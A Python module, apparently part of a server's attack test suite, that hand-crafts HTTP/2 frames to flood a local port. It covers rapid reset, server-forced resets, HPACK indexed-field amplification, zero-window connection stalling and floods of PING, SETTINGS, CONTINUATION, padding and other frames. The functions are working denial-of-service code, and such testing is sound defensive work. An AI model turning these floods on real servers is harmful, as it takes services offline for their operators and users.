"""Attacks over HTTP/2, with frames made by hand."""

from __future__ import annotations

import struct
from contextlib import ExitStack, suppress

from emulator.clock import stopwatch
from tests.attack.http_attacks import flood, opened

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def field(name: bytes, value: bytes) -> bytes:
    """A header, literal and not indexed, of names and values under 127 bytes."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


OPENING = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)
# :method GET, :scheme http, and by their names: :path, :authority
REQUEST = b"\x82\x86" + b"\x04\x07/health" + b"\x01\x09127.0.0.1"
POST = b"\x83\x86" + b"\x04\x01/" + b"\x01\x09127.0.0.1"


def rapid_reset(port: int, count: int, seconds: float) -> None:
    """Requests that are cancelled as they are made, on one connection after the other."""
    until, made = stopwatch() + seconds, 0
    while made < count and stopwatch() < until:
        with suppress(OSError), opened(port) as connection:
            connection.settimeout(1)
            connection.sendall(OPENING)
            stream = 1
            while made < count and stopwatch() < until:
                burst = b""
                for _ in range(200):
                    burst += frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST)
                    burst += frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                    stream += 2
                connection.sendall(burst)
                made += 200


def made_resets(port: int, count: int, seconds: float) -> None:
    """Requests that the server itself has to cancel: their windows are made too large."""
    until, made = stopwatch() + seconds, 0
    while made < count and stopwatch() < until:
        with suppress(OSError), opened(port) as connection:
            connection.settimeout(1)
            connection.sendall(OPENING)
            stream = 1
            while made < count and stopwatch() < until:
                connection.sendall(
                    frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST)
                    + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")
                )
                stream += 2
                made += 1


def requests(port: int, seconds: float) -> None:
    """As many requests as the connection takes; answers are not read."""
    until = stopwatch() + seconds
    while stopwatch() < until:
        with suppress(OSError), opened(port) as connection:
            connection.settimeout(1)
            connection.sendall(OPENING)
            for stream in range(1, 200_000, 2):
                connection.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST))
                if stopwatch() > until:
                    return


def indexed_fields(port: int, count: int, seconds: float) -> None:
    """Requests with ``count`` fields each, a byte on the wire: an entry of the table again and again."""
    entry = b"\x40\x01a\x64" + b"x" * 100
    until = stopwatch() + seconds
    while stopwatch() < until:
        with suppress(OSError), opened(port) as connection:
            connection.settimeout(1)
            connection.sendall(OPENING)
            for stream in range(1, 20_000, 2):
                block = REQUEST + (entry if stream == 1 else b"") + b"\xbe" * count
                pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
                sent = frame(
                    HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), stream, pieces[0]
                )
                for place, piece in enumerate(pieces[1:], 2):
                    sent += frame(CONTINUATION, END_HEADERS if place == len(pieces) else 0, stream, piece)
                connection.sendall(sent)
                if stopwatch() > until:
                    return


def closed_windows(port: int, connections: int, seconds: float) -> None:
    """Requests whose answers may not be sent, since no window is ever opened."""
    no_window = PREFACE + frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0")
    with ExitStack() as stack:
        last = None
        for _ in range(connections):
            with suppress(OSError):
                last = stack.enter_context(opened(port))
                last.settimeout(1)
                last.sendall(no_window)
                for stream in range(1, 400, 2):
                    last.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST))
        if last:
            last.settimeout(seconds)
            with suppress(OSError):
                while last.recv(65_536):
                    pass


UPLOAD = frame(HEADERS, END_HEADERS, 1, POST)
FLOODS: dict[str, tuple[bytes, bytes]] = {
    "PING": (OPENING, frame(PING, 0, 0, bytes(8)) * 4000),
    "SETTINGS": (OPENING, frame(SETTINGS, 0, 0) * 4000),
    "SETTINGS that change the window": (OPENING, frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 4000),
    "PRIORITY": (OPENING, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 4000),
    "WINDOW_UPDATE": (OPENING, frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * 4000),
    "WINDOW_UPDATE of a stream": (OPENING + UPLOAD, frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01") * 4000),
    "empty DATA": (OPENING + UPLOAD, frame(DATA, 0, 1) * 4000),
    "DATA of a byte": (OPENING + UPLOAD, frame(DATA, 0, 1, b"a") * 4000),
    "padding": (OPENING + UPLOAD, frame(DATA, 8, 1, b"\xff" + bytes(255)) * 400),
    "CONTINUATION": (OPENING + frame(HEADERS, 0, 1, REQUEST), frame(CONTINUATION, 0, 1) * 4000),
    "long CONTINUATION": (
        OPENING + frame(HEADERS, 0, 1, REQUEST),
        frame(CONTINUATION, 0, 1, bytes(16_000)) * 10,
    ),
    "unknown frames": (OPENING, frame(0xFA, 0, 0, b"x") * 4000),
    "GOAWAY": (OPENING, frame(GOAWAY, 0, 0, bytes(8)) * 4000),
    "RST_STREAM of one": (OPENING + UPLOAD, frame(RST_STREAM, 0, 1, bytes(4)) * 4000),
}


def named_flood(port: int, name: str, seconds: float, most_bytes: int) -> None:
    """One of ``FLOODS``."""
    flood(port, *FLOODS[name], seconds, most_bytes)
